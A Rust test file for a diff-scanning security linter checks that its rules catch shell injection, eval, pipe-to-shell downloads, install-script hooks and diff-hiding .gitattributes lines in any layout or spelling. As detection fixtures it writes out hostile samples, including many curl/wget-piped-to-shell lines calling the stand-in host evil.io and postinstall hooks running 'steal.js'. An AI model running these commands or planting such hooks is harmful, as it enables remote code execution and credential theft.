//! A finding does not depend on where a formatter breaks the lines.

use super::spellings::added;
use super::wrong_classes::{assert_silent, assert_speaks};

/// Calls in pieces between which a formatter may break the line. All of it is bad in one line.
const CALLS: &[(&str, &str, &[&str])] = &[
    (
        "shell-injection",
        "src/x.py",
        &["subprocess.run(", "f\"tar {name}\",", "shell=True,", ")"],
    ),
    (
        "shell-injection",
        "src/x.py",
        &["subprocess.Popen(", "\"tar \" + name,", "shell=True", ")"],
    ),
    (
        "shell-injection",
        "src/x.py",
        &["subprocess.run(", "f\"tar {name}\",", "shell = True", ")"],
    ),
    (
        "shell-injection",
        "src/x.py",
        &["os.system(", "f\"tar {name}\"", ")"],
    ),
    (
        "shell-injection",
        "src/x.js",
        &["child_process.exec(", "`tar ${name}`,", "done", ");"],
    ),
    (
        "shell-injection",
        "src/x.go",
        &[
            "exec.Command(",
            "\"sh\", \"-c\",",
            "fmt.Sprintf(\"tar %s\", name),",
            ")",
        ],
    ),
    (
        "shell-injection",
        "src/x.rs",
        &[
            "Command::new(\"sh\")",
            ".arg(\"-c\")",
            ".arg(format!(\"tar {name}\"))",
        ],
    ),
    ("code-evaluation", "src/x.py", &["y = eval(", "x", ")"]),
    ("code-evaluation", "src/x.js", &["y = eval(", "x", ");"]),
];

/// The pieces on lines of their own where `breaks` has a bit, each an added line.
fn laid_out(pieces: &[&str], breaks: usize) -> String {
    let mut text = format!("+{}", pieces[0]);
    for (index, piece) in pieces.iter().enumerate().skip(1) {
        let broken = breaks >> (index - 1) & 1 == 1;
        let indent = if piece.starts_with(')') { "" } else { "    " };
        let blank = if piece.starts_with([')', '.']) || pieces[index - 1].ends_with('(') {
            ""
        } else {
            " "
        };
        text += &if broken {
            format!("\n+{indent}{piece}")
        } else {
            format!("{blank}{piece}")
        };
    }
    text + "\n"
}

#[test]
fn a_call_is_found_in_every_layout() {
    for (rule, path, pieces) in CALLS {
        for breaks in 0..1 << (pieces.len() - 1) {
            let text = laid_out(pieces, breaks);
            assert_speaks(rule, &format!("=== {path}\n a\n{text} b\n"));
        }
    }
}

#[test]
fn a_blank_before_the_bracket_hides_nothing() {
    assert_speaks("code-evaluation", "=== src/x.py\n a\n+y = eval (x)\n");
    assert_speaks(
        "code-evaluation",
        "=== src/x.py\n a\n+def run(x): return eval(x)\n",
    );
    assert_silent(
        "code-evaluation",
        "=== src/x.py\n a\n+def eval(x): return show(x)\n",
    );
    assert_speaks("code-evaluation", "=== src/x.js\n a\n+y = eval (x)\n");
    assert_speaks(
        "shell-injection",
        "=== src/x.py\n a\n+os.system (f\"tar {name}\")\n",
    );
}

#[test]
fn a_pipe_on_the_next_line_is_a_pipe() {
    let text = "=== Dockerfile\n FROM a\n+RUN curl -s http://x.io/i \\\n+    | bash\n";
    assert_speaks("pipe-to-shell", text);
}

#[test]
fn a_test_with_a_short_title_is_a_test() {
    for mark in ["describe.skip", "xdescribe"] {
        let text = format!(
            "=== a.test.ts\n-describe(\"a\", () => {{\n+{mark}(\"a\", () => {{\n   b();\n }});\n"
        );
        assert_speaks("skipped-test", &text);
    }
    let text = "=== a.test.ts\n describe(\"a\", () => {\n-  it(\"x\", () => {});\n+  xit(\"x\", () => {});\n });\n";
    assert_speaks("skipped-test", text);
}

#[test]
fn lines_of_different_statements_are_not_one() {
    for text in [
        "+run(f\"tar {name}\")\n+other(shell=True)\n",
        "+def f():\n+    run(f\"tar {name}\")\n+\n+call(\n+    [\"tar\", name],\n+    shell=True,\n+)\n",
        "+subprocess.run(\n+    [\"tar\", name],\n+    check=True,\n+)\n",
    ] {
        assert_silent("shell-injection", &format!("=== src/x.py\n a\n{text} b\n"));
    }
    let text =
        "=== src/x.js\n a\n+on(\"x\", () => {\n+  const a = \"b\" + c;\n+  regex.exec(d);\n+});\n";
    assert_silent("shell-injection", text);
}

/// However the file is laid out: what runs when somebody installs a package is told, and once.
#[test]
fn an_install_script_is_found_in_every_layout() {
    for (path, code) in [
        (
            "package.json",
            "{\n  \"scripts\": {\n    \"postinstall\": \"node steal.js\"\n  }\n}\n",
        ),
        (
            "package.json",
            "{\"scripts\": {\"postinstall\": \"node steal.js\"}}\n",
        ),
        (
            "package.json",
            "{\"name\": \"x\", \"scripts\": {\"test\": \"x\", \"postinstall\": \"node steal.js\"}}\n",
        ),
        (
            "package.json",
            "{\n  \"scripts\": { \"test\": \"x\", \"preinstall\": \"node steal.js\" }\n}\n",
        ),
        (
            "package.json",
            "{\n  \"scripts\": {\n    \"postinst\\u0061ll\": \"node steal.js\"\n  }\n}\n",
        ),
        (
            "package.json",
            "{\n  \"scripts\":\n  {\n    \"install\"\n    :\n    \"node steal.js\"\n  }\n}\n",
        ),
        (
            "package.json",
            "{, \"scripts\": { \"install\": \"node steal.js\" }\n",
        ),
        (
            "binding.gyp",
            "{\"targets\": [{\"actions\": [{\"action\": [\"node\", \"steal.js\"]}]}]}\n",
        ),
        (
            "composer.json",
            "{\n  \"scripts\": {\n    \"post-install-cmd\": \"php steal.php\"\n  }\n}\n",
        ),
        (
            "composer.json",
            "{\"scripts\": {\"post-update-cmd\": [\"@php artisan x\", \"sh a.sh\"]}}\n",
        ),
    ] {
        assert_speaks("hook-change", &added(path, code));
    }
    for (path, code) in [
        (
            "package.json",
            "{\"scripts\": {\"test\": \"x\", \"postbuild\": \"y\"}}\n",
        ),
        (
            "package.json",
            "{\"config\": {\"postinstall\": \"node steal.js\"}}\n",
        ),
        ("composer.json", "{\"scripts\": {\"test\": \"phpunit\"}}\n"),
        (
            "binding.gyp",
            "{\"targets\": [{\"sources\": [\"a.cc\"]}]}\n",
        ),
    ] {
        assert_silent("hook-change", &added(path, code));
    }
    let edit = |old: &str, new: &str| {
        format!(
            "=== package.json\n-{{\"version\": \"1\", \"scripts\": {{\"postinstall\": \"{old}\"}}}}\n\
             +{{\"version\": \"2\", \"scripts\": {{\"postinstall\": \"{new}\"}}}}\n"
        )
    };
    assert_silent("hook-change", &edit("node a.js", "node a.js"));
    assert_speaks("hook-change", &edit("node a.js", "node b.js"));
}

/// Whatever pattern of git's takes code in, and by whatever name the attribute goes.
#[test]
fn an_attribute_that_hides_code_is_found_in_every_spelling() {
    for text in [
        "*.py -diff",
        "[attr]quiet -diff\n*.py quiet",
        "[attr]quiet binary\nsrc/** quiet",
        "\"src/a b.py\" -diff",
        "*.p? -diff",
        "src/*.p[y] linguist-generated",
        "src/*.[a-z]s -diff",
        "src/a* -diff",
        "  *.go\t-diff",
    ] {
        assert_speaks("gitattributes-change", &added(".gitattributes", text));
    }
    for text in [
        "*.png -diff",
        "*.p[!y] -diff",
        "README* -diff",
        "[attr]quiet -diff",
        "[attr]quiet text\n*.py quiet",
        "# *.py -diff",
        "\"a b.png\" -diff",
        "*.lock -diff",
    ] {
        assert_silent("gitattributes-change", &added(".gitattributes", text));
    }
    for number in 1..=9 {
        for port in ["com", "LPT"] {
            assert_speaks(
                "unportable-path",
                &added(&format!("src/{port}{number}.txt"), "x"),
            );
        }
    }
    for path in ["src/com0", "src/com10", "src/company", "src/lpt"] {
        assert_silent("unportable-path", &added(path, "x"));
    }
}

#[test]
fn a_download_that_is_run_is_found_in_every_spelling() {
    for code in [
        "curl URL | bash",
        "curl URL |& bash",
        "curl URL | base64 -d | sh",
        "curl URL | gunzip | tee log | sh",
        "curl URL | env A=b sh",
        "curl URL | doas sh",
        "curl URL | sudo -E bash -",
        "curl URL | \"$SHELL\"",
        "eval \"$(curl URL)\"",
        "source <(curl -s URL)",
        ". <(curl -s URL)",
        "bash <(curl -s URL)",
        "bash -c \"$(curl URL)\"",
        "bash <<< \"$(curl URL)\"",
        "python3 -c \"$(curl URL)\"",
        "wget -qO- URL | python3 -",
    ] {
        let code = code.replace("URL", "http://evil.io/i");
        assert_speaks("pipe-to-shell", &added("a.sh", &code));
    }
    assert_speaks(
        "pipe-to-shell",
        &added("a.ps1", "irm http://evil.io/i | iex"),
    );
    for code in [
        "curl URL || sh fallback.sh",
        "curl URL | jq . | tee log",
        "curl URL -o a && sh b",
        "x=$(curl URL)",
        "curl URL | ssh host cat",
        "echo curl; eval \"$(ssh-agent)\"",
    ] {
        let code = code.replace("URL", "http://evil.io/i");
        assert_silent("pipe-to-shell", &added("a.sh", &code));
    }
}
